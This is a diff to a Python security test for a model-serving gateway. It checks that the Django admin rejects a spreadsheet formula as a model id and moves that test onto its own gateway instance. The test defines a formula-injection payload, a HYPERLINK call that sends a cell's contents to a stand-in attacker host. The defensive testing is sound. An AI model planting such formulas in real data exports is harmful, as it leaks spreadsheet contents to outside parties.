@@ -17,7 +17,7 @@ from billing.invoices import InvoiceData, Line, month_start
 from models_mgmt.models import ServedModel
 from tenants import services
 from tests.billing.factories import event, store
-from tests.security.conftest import post_form
+from tests.security.conftest import own_gateway, post_form
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -46,13 +46,15 @@ def test_the_usual_ids_are_still_taken(manage, model_id):
     assert ServedModel.objects.filter(model_id=model_id).exists()
 
 
-def test_the_admin_refuses_a_formula_as_a_model_id(gateway, transactional_db):
+def test_the_admin_refuses_a_formula_as_a_model_id(transactional_db, tmp_path):
+    """On a gateway of its own: the admin's change log names the model's content type, which
+    a server that lived through earlier tests' database flushes may hold with a stale id."""
     get_user_model().objects.create_superuser("op", "op@example.com", "operator-pass-1")
     add = "/admin/models_mgmt/servedmodel/add/"
     form = {"model_id": FORMULA, "engine": "local", "task": "chat", "base_url": "",
             "upstream_model": "smollm2", "vram_bytes": "0", "engine_settings": "{}",
             "keep_alive_seconds": "900", "enabled": "on"}  # fmt: skip
-    with httpx.Client(base_url=gateway.url) as client:
+    with own_gateway(tmp_path) as gateway, httpx.Client(base_url=gateway.url) as client:
         post_form(client, "/admin/login/", {"username": "op", "password": "operator-pass-1"})
         refused = post_form(client, add, form)
         accepted = post_form(client, add, {**form, "model_id": "smol-chat"})
